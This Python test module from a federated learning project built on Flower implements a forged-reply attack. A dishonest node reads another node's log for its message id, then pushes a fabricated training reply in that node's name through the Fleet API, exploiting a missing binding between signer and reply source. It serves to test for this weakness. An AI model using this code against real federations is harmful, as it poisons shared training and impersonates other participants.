"""A dishonest node answers another node's task over the Fleet API (issue 58, item 6), for
tests only (never part of the product).

The threat: node B's operator holds B's registered key (TLS and SuperNode authentication are
on, as across machines) and can read node A's log (a shared log collector, a pasted log: Flower
1.39's SuperNode logs each message's id at INFO, "Receiving: train message (ID: ...)"). Flower's
SuperLink binds a Fleet request to the key that signed it, but not the ``src_node_id`` of the
reply the request carries: it stores a reply whose source is the destination of the message it
answers, whoever pushed it. So B can answer A's train message as A.

:func:`answer_for_another` does that from B's ClientApp (tests/malicious.py's ``answer-for``
attack, after B's own honest training): it waits for this round's id in A's log, pushes
``forged_content`` as A's reply, and appends what happened to a JSON-lines file. What B's
operator knows is in the JSON file named by the node-config key ``forge-target`` (written once
the federation is up): ``node`` and ``partition`` (A's), ``log`` (A's SuperNode log), ``key``
(B's private key), ``superlink`` (the Fleet API), ``ca`` (its certificate authority) and ``out``
(the findings).
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

RECEIVING = re.compile(r"Receiving: train message \(ID: ([0-9a-f]{64})\)")


def _fleet(key_path: str, superlink: str, ca_path: str):
    from cryptography.hazmat.primitives.serialization import load_ssh_private_key
    from flwr.client.grpc_rere_client.node_auth_client_interceptor import (
        NodeAuthClientInterceptor,
    )
    from flwr.proto.fleet_pb2_grpc import FleetStub
    from flwr.supercore.grpc import create_channel
    from flwr.supercore.interceptors import RuntimeVersionClientInterceptor

    private = load_ssh_private_key(Path(key_path).read_bytes(), None)
    channel = create_channel(server_address=superlink, insecure=False,
                             root_certificates=Path(ca_path).read_bytes(),
                             interceptors=[RuntimeVersionClientInterceptor(component_name="SuperNode"),
                                           NodeAuthClientInterceptor(private, private.public_key())])
    return channel, FleetStub(channel)


def _their_message(msg, dst_node_id: int, message_id: str):
    """``msg`` (B's own message) as addressed to ``dst_node_id`` under ``message_id``: what a
    reply to A's message must point to (the reply's time to live is bounded by B's)."""
    from flwr.app import Message
    from flwr.common.serde_utils import metadata_from_proto, metadata_to_proto

    proto = metadata_to_proto(msg.metadata)
    proto.dst_node_id = dst_node_id
    theirs = Message(metadata=metadata_from_proto(proto), content=msg.content)
    theirs.metadata.__dict__["_message_id"] = message_id  # as the SuperLink sets it
    return theirs


def _push(stub, node_id: int, reply) -> bool:
    """Push ``reply`` in a request signed as node ``node_id``; True if the SuperLink stored it
    (it then asks for the reply's objects)."""
    from flwr.app.message import remove_content_from_message
    from flwr.common.serde import message_to_proto
    from flwr.proto.fleet_pb2 import PushMessagesRequest  # pylint: disable=E0611
    from flwr.proto.node_pb2 import Node  # pylint: disable=E0611
    from flwr.supercore.inflatable.inflatable_object import (
        get_all_nested_objects,
        get_object_tree,
    )
    from flwr.supercore.inflatable.inflatable_protobuf_utils import (
        make_push_object_fn_protobuf,
    )

    reply.metadata.__dict__["_message_id"] = reply.object_id
    node = Node(node_id=node_id)
    res = stub.PushMessages(PushMessagesRequest(
        node=node, messages_list=[message_to_proto(remove_content_from_message(reply))],
        message_object_trees=[get_object_tree(reply)]))
    wanted = set(res.objects_to_push)
    if not wanted:
        return False
    push = make_push_object_fn_protobuf(stub.PushObject, node, reply.metadata.run_id, res.session_id)
    for object_id, obj in get_all_nested_objects(reply).items():
        if object_id in wanted:
            push(object_id, obj.deflate())
    return True


def answer_for_another(reply, msg, context, forged_content, wait: float = 30.0):
    """The ``answer-for`` attack (see the module docstring): pushes ``forged_content`` as A's
    reply to A's message of this round; returns B's own ``reply``, unchanged."""
    from flwr.app import Message

    from flatflower.common import protocol as P

    target = json.loads(Path(str(context.node_config["forge-target"])).read_text())
    server_round = int(msg.content[P.CONFIG].get(P.SERVER_ROUND, 0))
    found: dict = {"round": server_round, "message_id": None, "stored": False, "error": None}
    try:
        deadline = time.monotonic() + wait
        while found["message_id"] is None and time.monotonic() < deadline:
            ids = RECEIVING.findall(Path(target["log"]).read_text(errors="replace"))
            if len(ids) >= server_round:  # one train message a round
                found["message_id"] = ids[server_round - 1]
            else:
                time.sleep(0.05)
        if found["message_id"] is not None:
            channel, stub = _fleet(target["key"], target["superlink"], target["ca"])
            try:
                theirs = _their_message(msg, int(target["node"]), found["message_id"])
                found["stored"] = _push(stub, context.node_id, Message(forged_content, reply_to=theirs))
            finally:
                channel.close()
    except Exception as err:  # noqa: BLE001 - what stopped it is the finding
        found["error"] = f"{type(err).__name__}: {err}"[:500]
    with Path(target["out"]).open("a") as f:
        f.write(json.dumps(found) + "\n")
    return reply
